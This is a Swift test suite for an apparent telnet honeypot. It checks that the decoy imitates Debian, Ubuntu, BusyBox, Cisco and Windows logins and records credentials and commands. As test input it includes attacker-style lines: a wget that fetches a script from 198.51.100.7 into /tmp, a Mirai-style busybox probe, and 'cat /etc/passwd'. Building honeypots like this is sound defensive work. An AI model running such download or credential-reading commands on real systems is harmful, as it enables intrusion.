import DecnetCore
import DecnetServiceKit
import NIOCore
import NIOEmbedded
import Testing

@testable import DecnetServices

@Suite struct TelnetTests {
    static func machine(family: OSFamily = .linux, distro: String = "debian") throws -> TelnetStateMachine {
        let service = try TelnetService(
            context: ServiceContext(
                decky: "d",
                hostname: "web-01",
                service: "telnet",
                persona: ["users": "admin:admin"],
                sink: DiscardingEventSink(),
                osFamily: family,
                distro: distro
            )
        )
        return TelnetStateMachine(configuration: service.configuration)
    }

    static func sent(_ actions: [TelnetStateMachine.Action]) -> String {
        String(
            decoding: actions.flatMap { action -> [UInt8] in
                if case .send(let bytes) = action { return bytes }
                return []
            },
            as: UTF8.self
        )
    }

    static func type(_ machine: inout TelnetStateMachine, _ text: String) -> [TelnetStateMachine.Action] {
        machine.received(.data(Array(text.utf8)))
    }

    @Test func netkitOffersTheOptionsNmapKnowsThenPromptsOnFirstInput() throws {
        var machine = try Self.machine(distro: "ubuntu22")
        #expect(machine.greeting() == [255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39])
        let first = machine.received(.negotiation(command: TelnetDecoder.will, option: 24))
        #expect(Self.sent(first).hasSuffix("\r\nUbuntu 22.04.4 LTS\r\nweb-01 login: "))
        #expect(first.contains(.send([255, 250, 24, 1, 255, 240])), "asks for the terminal type")
        let terminal = machine.received(.subnegotiation(option: 24, bytes: [0] + Array("XTERM-256COLOR".utf8)))
        #expect(
            terminal.contains {
                if case .emit(.clientFingerprint, let fields) = $0 {
                    fields.fields.contains(EventField("terminal", "XTERM-256COLOR"))
                } else {
                    false
                }
            }
        )
        #expect(
            Self.sent(machine.received(.negotiation(command: TelnetDecoder.do, option: 99)))
                == String(decoding: [255, 252, 99], as: UTF8.self)
        )
    }

    /// Debian 12's telnetd is inetutils': it offers authentication and encryption, asks for five options, and says
    /// nothing to bytes that answer none (a scanner's probe), as the real one (bench/differential); a telnet client
    /// answering an option gets the login prompt.
    @Test func debianRunsInetutilsTelnetd() throws {
        var machine = try Self.machine()
        #expect(
            machine.greeting()
                == [255, 251, 37, 255, 251, 38, 255, 253, 24, 255, 253, 32, 255, 253, 35, 255, 253, 39, 255, 253, 36]
        )
        #expect(Self.type(&machine, "GET / HTTP/1.0\r\n\r\n").isEmpty)
        #expect(Self.type(&machine, "\u{80}\0\0(r").isEmpty)
        // It waits for ENCRYPT (DO/DONT) and the five values (WILL/WONT); meanwhile other options get their
        // answers from its table, AUTHENTICATION none, and a second WILL TTYPE nothing.
        #expect(machine.received(.negotiation(command: TelnetDecoder.wont, option: 37)).isEmpty)
        #expect(machine.received(.negotiation(command: TelnetDecoder.will, option: 0)) == [.send([255, 253, 0])])
        #expect(machine.received(.negotiation(command: TelnetDecoder.will, option: 25)) == [.send([255, 254, 25])])
        #expect(machine.received(.command(246)) == [.send(Array("\r\n[Yes]\r\n".utf8))])
        for option: UInt8 in [24, 32, 35, 39] {
            #expect(machine.received(.negotiation(command: TelnetDecoder.will, option: option)).isEmpty)
        }
        #expect(machine.received(.negotiation(command: TelnetDecoder.will, option: 24)).isEmpty)
        #expect(machine.received(.negotiation(command: TelnetDecoder.wont, option: 36)).isEmpty)
        #expect(machine.received(.negotiation(command: TelnetDecoder.wont, option: 38)).isEmpty)
        let login = machine.received(.negotiation(command: TelnetDecoder.dont, option: 38))
        let bytes = login.compactMap { if case .send(let bytes) = $0 { bytes } else { nil } }.joined()
        #expect(
            Array(bytes)
                == [
                    255, 250, 32, 1, 255, 240, 255, 250, 35, 1, 255, 240, 255, 250, 39, 1, 255, 240, 255, 250, 24, 1,
                    255, 240,
                ]
                + [
                    255, 251, 3, 255, 253, 1, 255, 253, 34, 255, 253, 31, 255, 251, 5, 255, 253, 33, 255, 251, 1, 255,
                    253, 6,
                ]
                + Array("\r\nLinux 6.1.0-18-amd64 (web-01) (pts/0)\r\n\r\nweb-01 login: ".utf8)
        )
        _ = Self.type(&machine, "root\r\n")
        let refused = Self.type(&machine, "wrong\r\n")
        #expect(refused.contains(.delay(.milliseconds(2400))))
        #expect(Self.sent(refused) == "\r\n\r\nLogin incorrect\r\nweb-01 login: ")
    }

    @Test func loginEchoesButNotThePasswordAndThreeFailuresClose() throws {
        var machine = try Self.machine(distro: "ubuntu22")
        _ = machine.greeting()
        _ = Self.type(&machine, "")
        #expect(Self.sent(Self.type(&machine, "roo")) == "roo")
        #expect(Self.sent(Self.type(&machine, "t\r\n")).hasSuffix("Password: "))
        let password = Self.type(&machine, "sec\u{7f}cret\r\u{0}")
        #expect(!Self.sent(password).contains("sec"))
        #expect(
            password.contains {
                if case .emit(.loginFailed, let fields) = $0 {
                    fields.fields.contains(EventField("password", "secret"))
                } else {
                    false
                }
            }
        )
        _ = Self.type(&machine, "root\r\n")
        _ = Self.type(&machine, "x\r\n")
        _ = Self.type(&machine, "root\r\n")
        #expect(Self.type(&machine, "y\r\n").contains(.close))
    }

    @Test func theShellAnswersConsistentlyAndRecordsEveryCommand() throws {
        var machine = try Self.machine(distro: "ubuntu22")
        _ = machine.greeting()
        _ = Self.type(&machine, "admin\r\n")
        let login = Self.type(&machine, "admin\r\n")
        #expect(Self.sent(login).hasSuffix("admin@web-01:~$ "))
        let output = Self.sent(Self.type(&machine, "uname -r; cat /etc/os-release | head -1\r\n"))
        #expect(output.contains("5.15.0-91-generic\r\n"))
        #expect(output.contains("PRETTY_NAME=\"Ubuntu 22.04.4 LTS\""))
        let download = Self.type(&machine, "cd /tmp && wget -O x.sh http://198.51.100.7/x.sh\r\n")
        #expect(
            download.contains {
                if case .emit(.fileDownload, let fields) = $0 {
                    fields.fields.contains(EventField("url", "http://198.51.100.7/x.sh"))
                } else {
                    false
                }
            }
        )
        #expect(Self.sent(download).hasSuffix("admin@web-01:/tmp$ "))
        let commands = download.compactMap { action -> String? in
            if case .emit(.commandInput, let fields) = action {
                return fields.fields.first { $0.name == "command" }?.value
            }
            return nil
        }
        #expect(commands == ["cd", "wget"])
        #expect(Self.sent(Self.type(&machine, "nosuchtool -x\r\n")).contains("-bash: nosuchtool: command not found"))
        #expect(Self.type(&machine, "exit\r\n").contains(.close))
    }

    @Test func busyBoxDevicesPromptAtOnceAndAnswerAsAsh() throws {
        var machine = try Self.machine(family: .embedded)
        #expect(String(decoding: machine.greeting(), as: UTF8.self).hasSuffix("\r\nweb-01 login: "))
        _ = Self.type(&machine, "admin\r\n")
        #expect(Self.sent(Self.type(&machine, "admin\r\n")).hasSuffix("$ "))
        #expect(Self.sent(Self.type(&machine, "busybox MIRAI\r\n")).contains("-sh: MIRAI: not found"))
        #expect(Self.sent(Self.type(&machine, "uname -m\r\n")).contains("armv7l"))
    }

    /// A Cisco decky's telnet is IOS's login, a Windows decky's the Microsoft Telnet Service: neither says Linux.
    @Test func ciscoAndWindowsDeckiesLogInAsTheirOSDoes() throws {
        var router = try Self.machine(family: .cisco)
        let banner = String(decoding: router.greeting(), as: UTF8.self)
        #expect(banner.hasSuffix("\r\n\r\nUser Access Verification\r\n\r\nUsername: "))
        #expect(Self.sent(Self.type(&router, "cisco\r\n")).hasSuffix("\r\nPassword: "))
        let failed = Self.type(&router, "cisco\r\n")
        #expect(Self.sent(failed) == "\r\n% Login invalid\r\n\r\nUsername: ")
        #expect(failed.contains { if case .emit(.loginFailed, _) = $0 { true } else { false } })

        var windows = try Self.machine(family: .windows)
        let welcome = String(decoding: windows.greeting(), as: UTF8.self)
        #expect(welcome.hasSuffix("Welcome to Microsoft Telnet Service \r\n\n\rlogin: "))
        #expect(Self.sent(Self.type(&windows, "Administrator\r\n")).hasSuffix("\n\rpassword: "))
        #expect(Self.sent(Self.type(&windows, "x\r\n")).contains("Login Failed"))
        for banner in [banner, welcome] { #expect(!banner.contains("Linux") && !banner.contains("login: admin")) }
    }

    @Test func decoderSeparatesDataFromOptionsAtEveryBoundary() throws {
        let input: [UInt8] =
            Array("ab".utf8) + [255, 255] + [255, 251, 24] + [255, 250, 24, 0] + Array("VT100".utf8) + [255, 240] + [
                255, 244,
            ] + Array("c".utf8)
        for split in 0...input.count {
            let channel = EmbeddedChannel(handler: ByteToMessageHandler(TelnetDecoder()))
            try channel.writeInbound(ByteBuffer(bytes: input[..<split]))
            try channel.writeInbound(ByteBuffer(bytes: input[split...]))
            var data: [UInt8] = []
            var others: [TelnetMessage] = []
            while let message = try channel.readInbound(as: TelnetMessage.self) {
                if case .data(let bytes) = message { data += bytes } else { others.append(message) }
            }
            #expect(data == Array("ab".utf8) + [255] + Array("c".utf8), "split \(split)")
            #expect(
                others == [
                    .negotiation(command: 251, option: 24),
                    .subnegotiation(option: 24, bytes: [0] + Array("VT100".utf8)), .command(244),
                ],
                "split \(split)"
            )
            _ = try? channel.finish()
        }
    }

    @Test func endlessSubnegotiationsAndRandomBytesNeverCrash() async throws {
        let channel = EmbeddedChannel(handler: ByteToMessageHandler(TelnetDecoder(), maximumBufferSize: 1 << 16))
        try channel.writeInbound(ByteBuffer(bytes: [255, 250, 24] + [UInt8](repeating: 65, count: 5000)))
        try channel.writeInbound(ByteBuffer(string: "hello"))
        var sawData = false
        while let message = try channel.readInbound(as: TelnetMessage.self) {
            if case .data = message { sawData = true }
        }
        #expect(sawData)
        _ = try? channel.finish()

        var generator = SystemRandomNumberGenerator()
        for round in 0..<1000 {
            if round % 50 == 0 { await Task.yield() }
            var machine = try Self.machine()
            _ = machine.greeting()
            let bytes = (0..<Int.random(in: 0...200, using: &generator)).map { _ in
                UInt8.random(in: 0...255, using: &generator)
            }
            let random = EmbeddedChannel(handler: ByteToMessageHandler(TelnetDecoder(), maximumBufferSize: 1 << 16))
            _ = try? random.writeInbound(
                ByteBuffer(bytes: bytes + Array("admin\r\nadmin\r\nls -la /; cat /etc/passwd\r\n".utf8) + bytes)
            )
            while let message = try? random.readInbound(as: TelnetMessage.self) { _ = machine.received(message) }
            _ = try? random.finish()
        }
    }
}
